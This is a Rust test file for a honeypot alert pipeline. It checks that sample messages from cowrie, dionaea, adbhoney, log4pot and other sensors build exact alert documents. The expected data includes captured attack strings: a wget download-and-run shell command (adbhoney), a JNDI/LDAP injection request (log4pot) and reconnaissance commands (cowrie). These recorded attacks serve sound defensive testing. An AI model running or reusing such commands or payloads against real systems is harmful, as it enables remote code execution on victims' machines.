//! The sample messages of `tests/fixtures/ews/` (one per honeypot family) build exactly the
//! expected documents, every field checked.

use super::Classification;
use super::document::{BuildContext, BuiltAlerts, build_alerts};
use super::ews::{Credentials, parse_message};
use super::geoip::tests::test_geoip;
use crate::domain::{Alert, Timestamp};
use md5::{Digest, Md5};
use serde_json::{Value, json};

fn fixture(name: &str) -> &'static str {
    match name {
        "adbhoney" => include_str!("../../tests/fixtures/ews/adbhoney.xml"),
        "ciscoasa" => include_str!("../../tests/fixtures/ews/ciscoasa.xml"),
        "conpot" => include_str!("../../tests/fixtures/ews/conpot.xml"),
        "cowrie" => include_str!("../../tests/fixtures/ews/cowrie.xml"),
        "dionaea" => include_str!("../../tests/fixtures/ews/dionaea.xml"),
        "elasticpot" => include_str!("../../tests/fixtures/ews/elasticpot.xml"),
        "glastopfv3" => include_str!("../../tests/fixtures/ews/glastopfv3.xml"),
        "glutton" => include_str!("../../tests/fixtures/ews/glutton.xml"),
        "heralding" => include_str!("../../tests/fixtures/ews/heralding.xml"),
        "honeytrap" => include_str!("../../tests/fixtures/ews/honeytrap.xml"),
        "log4pot" => include_str!("../../tests/fixtures/ews/log4pot.xml"),
        "suricata" => include_str!("../../tests/fixtures/ews/suricata.xml"),
        "tanner" => include_str!("../../tests/fixtures/ews/tanner.xml"),
        other => panic!("no fixture {other}"),
    }
}

fn build(name: &str) -> BuiltAlerts {
    let message = parse_message(fixture(name).as_bytes()).unwrap();
    assert_eq!(
        message.credentials,
        Some(Credentials {
            username: "community-01-user".into(),
            token: "foth{a5maiCee8fineu7".into()
        })
    );
    let (_dir, geoip) = test_geoip();
    let ctx = BuildContext {
        client_domain: true,
        client: "-",
        max_field_bytes: 65_536,
        received: Timestamp::parse_legacy("2024-06-24 10:00:07").unwrap(),
        classification: Classification::Extended,
        geoip: &geoip,
    };
    let built = build_alerts(&message, &ctx);
    assert_eq!(built.skipped, vec![], "{name}");
    built
}

fn md5_hex(data: &[u8]) -> String {
    hex::encode(Md5::digest(data))
}

/// The document every fixture shares (8.8.8.8 → 87.150.238.182, community, T-Pot host) with
/// `fields` replaced.
fn expected(fields: Value) -> Value {
    let mut document = json!({
        "country": "US",
        "countryName": "United States",
        "vulnid": "",
        "originalRequestString": "",
        "sourceEntryAS": "AS15169 GOOGLE",
        "createTime": "2024-06-24 12:00:00",
        "clientDomain": true,
        "peerIdent": "",
        "peerType": "",
        "client": "-",
        "location": "37.751 , -97.822",
        "locationDestination": "51.2993 , 9.491",
        "sourceEntryIp": "8.8.8.8",
        "sourceEntryPort": "",
        "additionalData": "{}",
        "targetEntryIp": "87.150.238.182",
        "targetEntryPort": "",
        "targetCountry": "DE",
        "targetCountryName": "Germany",
        "targetEntryAS": "AS3320 Deutsche Telekom AG",
        "username": "",
        "password": "",
        "login": "",
        "targetport": "tcp",
        "clientVersion": "",
        "sessionStart": "",
        "sessionEnd": "",
        "recievedTime": "2024-06-24 10:00:07",
        "externalIP": "87.150.238.182",
        "internalIP": "10.0.0.5",
        "hostname": "tpot-host",
        "rawhttp": "-"
    });
    for (key, value) in fields.as_object().unwrap() {
        assert!(document.get(key).is_some(), "unknown field {key}");
        document[key] = value.clone();
    }
    document
}

/// The legacy id: MD5 of S twice.
fn legacy_id(document: &Value, kind: &str) -> String {
    let s = format!(
        "{}{}{}{}{}{kind}",
        document["createTime"].as_str().unwrap(),
        document["sourceEntryIp"].as_str().unwrap(),
        document["targetEntryIp"].as_str().unwrap(),
        document["originalRequestString"].as_str().unwrap(),
        document["peerIdent"].as_str().unwrap(),
    );
    md5_hex(format!("{s}{s}").as_bytes())
}

fn assert_alert(alert: &Alert, fields: Value) {
    let document = expected(fields);
    assert_eq!(alert.to_document(), document);
    assert_eq!(alert.id, legacy_id(&document, "Alert"));
}

#[test]
fn cowrie() {
    let built = build("cowrie");
    assert_eq!(built.alerts.len(), 2);
    assert_alert(
        &built.alerts[0],
        json!({
            "originalRequestString":
                "['uname -a', 'cat /proc/cpuinfo | grep name | wc -l', 'echo \"café\" && exit']",
            "createTime": "2024-06-24 10:00:00",
            "peerIdent": "cowrie-community-01",
            "peerType": "SSH/console(cowrie)",
            "sourceEntryPort": "50522",
            "targetEntryPort": "22",
            "username": "root",
            "password": "admin",
            "login": "Success",
            "clientVersion": "SSH-2.0-Go",
        }),
    );
    assert_alert(
        &built.alerts[1],
        json!({
            "createTime": "2024-06-24 10:00:05",
            "peerIdent": "cowrie-community-01",
            "peerType": "SSH/console(cowrie)",
            "sourceEntryPort": "50530",
            "targetEntryPort": "23",
            "username": "admin",
            "password": null,
            "login": "Fail",
        }),
    );
}

#[test]
fn dionaea() {
    let built = build("dionaea");
    assert_eq!(built.alerts.len(), 1);
    let binary =
        "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA==";
    let md5 = md5_hex(
        &base64::Engine::decode(&base64::engine::general_purpose::STANDARD, binary).unwrap(),
    );
    assert_alert(
        &built.alerts[0],
        json!({
            "country": "-",
            "countryName": "-",
            "sourceEntryAS": "-",
            "location": "0.0 , 0.0",
            "sourceEntryIp": "45.13.12.11",
            "originalRequestString": "Attack on port 445/tcp",
            "peerIdent": "dionaea-community-01",
            "peerType": "Network(Dionaea)",
            "sourceEntryPort": "49152",
            "targetEntryPort": "445",
            // The sensor's md5 overwrites the computed one, keeping the key's first place.
            "additionalData": r#"{"payload_md5": "4a9c6d1f0f2bd1c0b3d2ef5c55e1e0a1"}"#,
        }),
    );
    assert_ne!(md5, "4a9c6d1f0f2bd1c0b3d2ef5c55e1e0a1");
}

#[test]
fn honeytrap() {
    let built = build("honeytrap");
    let fields = json!({
        // No conversion for honeytrap although tz is +0200.
        "createTime": "2024-06-24 12:00:00",
        "originalRequestString": "Attack on port 445/tcp",
        "peerIdent": "honeytrap-community-01",
        "peerType": "Network(honeytrap)",
        "sourceEntryPort": "40000",
        "targetEntryPort": "445",
    });
    assert_alert(&built.alerts[0], fields);
    assert_eq!(built.alerts[0].id, "5810f151a2059bd3ec40d64302df67ab");
}

#[test]
fn glastopf_with_raw_http() {
    let built = build("glastopfv3");
    let http = "GET /phpmyadmin/index.php?lang=en HTTP/1.1\r\nHost: 87.150.238.182\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\nAccept: */*\r\n\r\n";
    assert_alert(
        &built.alerts[0],
        json!({
            "originalRequestString": "/phpmyadmin/index.php?lang=en",
            "peerIdent": "glastopfv3-community-01",
            "peerType": "Webpage",
            "sourceEntryPort": "51000",
            "targetEntryPort": "80",
            "additionalData": format!(r#"{{"payload_md5": "{}"}}"#, md5_hex(http.as_bytes())),
            "rawhttp": http,
        }),
    );
}

#[test]
fn tanner_with_raw_http() {
    let built = build("tanner");
    let http =
        "POST /wp-login.php HTTP/1.1\r\nHost: example.org\r\nContent-Length: 9\r\n\r\nlog=admin";
    assert_alert(
        &built.alerts[0],
        json!({
            "originalRequestString": "/wp-login.php",
            "peerIdent": "tanner-community-01",
            "peerType": "Webpage",
            "sourceEntryPort": "51001",
            "targetEntryPort": "80",
            "additionalData": format!(r#"{{"payload_md5": "{}"}}"#, md5_hex(http.as_bytes())),
            "rawhttp": http,
        }),
    );
}

#[test]
fn heralding() {
    let built = build("heralding");
    assert_alert(
        &built.alerts[0],
        json!({
            "peerIdent": "heralding-community-01",
            "peerType": "Passwords(heralding)",
            "sourceEntryPort": "51002",
            "targetEntryPort": "21",
            "additionalData": r#"{"protocol": "ftp"}"#,
            "username": "anonymous",
            "password": "guest@",
        }),
    );
}

#[test]
fn suricata_with_cve_ids() {
    let built = build("suricata");
    let fields = json!({
        "vulnid": "CVE-2017-0144 CVE-2017-0145",
        "originalRequestString": "(CVE-2017-0144 CVE-2017-0145) ",
        "peerIdent": "suricata-community-01",
        "peerType": "Network(suricata)",
        "sourceEntryPort": "51003",
        "targetEntryPort": "445",
    });
    assert_alert(&built.alerts[0], fields.clone());
    assert_eq!(built.cve_copies.len(), 1);
    let mut copy_fields = fields;
    copy_fields["originalRequestString"] = json!("");
    let copy = &built.cve_copies[0];
    let document = expected(copy_fields);
    assert_eq!(copy.to_document(), document);
    assert_eq!(copy.id, legacy_id(&document, "CVE"));
}

#[test]
fn conpot_events_of_one_connection() {
    let built = build("conpot");
    assert_eq!(built.alerts.len(), 2);
    let common = json!({
        "peerIdent": "conpot-community-01",
        "peerType": "Industrial(conpot)",
        "sourceEntryPort": "51004",
        "targetEntryPort": "502",
    });
    let mut first = common.clone();
    first["additionalData"] = json!(r#"{"conpot_data_type": "modbus"}"#);
    let mut second = common;
    second["additionalData"] =
        json!(r#"{"conpot_data_type": "modbus", "conpot_response": "01 03 02 00 2a"}"#);
    assert_eq!(built.alerts[0].to_document(), expected(first.clone()));
    assert_eq!(built.alerts[1].to_document(), expected(second));
    // Deterministic, distinct, and not the collision-prone legacy id.
    let again = build("conpot");
    assert_eq!(built.alerts[0].id, again.alerts[0].id);
    assert_eq!(built.alerts[1].id, again.alerts[1].id);
    assert_ne!(built.alerts[0].id, built.alerts[1].id);
    assert_ne!(built.alerts[0].id, legacy_id(&expected(first), "Alert"));
    assert_eq!(built.alerts[0].id.len(), 32);
}

#[test]
fn elasticpot() {
    let built = build("elasticpot");
    assert_alert(
        &built.alerts[0],
        json!({
            "originalRequestString": "/_cat/indices?v",
            "peerIdent": "elasticpot-community-01",
            "peerType": "Service(ES)",
            "sourceEntryPort": "51005",
            "targetEntryPort": "9200",
            "additionalData": r#"{"payload": "{\"query\":1}"}"#,
        }),
    );
}

#[test]
fn ciscoasa_request_payload() {
    let built = build("ciscoasa");
    assert_alert(
        &built.alerts[0],
        json!({
            "peerIdent": "ciscoasa-community-01",
            "peerType": "Network(cisco-asa)",
            "sourceEntryPort": "51006",
            "targetEntryPort": "5000",
            "targetport": "udp",
            "additionalData": r#"{"payload": "\\x00\\x01 %41 ikev2"}"#,
        }),
    );
}

#[test]
fn adbhoney() {
    let built = build("adbhoney");
    assert_alert(
        &built.alerts[0],
        json!({
            "originalRequestString":
                "cd /data/local/tmp; busybox wget http://203.0.113.7/x.sh; sh x.sh",
            "peerIdent": "adbhoney-community-01",
            "peerType": "Android(adbhoney)",
            "sourceEntryPort": "51007",
            "targetEntryPort": "5555",
            "additionalData":
                format!(r#"{{"payload_md5": "{}"}}"#, md5_hex(b"#!/bin/sh\necho hi")),
        }),
    );
}

#[test]
fn log4pot() {
    let built = build("log4pot");
    let http = "GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1\r\nHost: x\r\n\r\n";
    assert_alert(
        &built.alerts[0],
        json!({
            "peerIdent": "log4pot-community-01",
            "peerType": "Webpage(log4pot)",
            "sourceEntryPort": "51008",
            "targetEntryPort": "8080",
            "additionalData": format!(r#"{{"payload_md5": "{}"}}"#, md5_hex(http.as_bytes())),
            "rawhttp": http,
        }),
    );
}

#[test]
fn glutton_old_binary_meaning() {
    let built = build("glutton");
    assert_alert(
        &built.alerts[0],
        json!({
            "peerIdent": "glutton",
            "peerType": "Network(glutton)",
            "sourceEntryPort": "51009",
            "targetEntryPort": "3389",
            "additionalData": format!(r#"{{"payload_md5": "{}"}}"#, md5_hex(&[0, 1, 2, 3, 4])),
            "hostname": "undefined",
        }),
    );
}
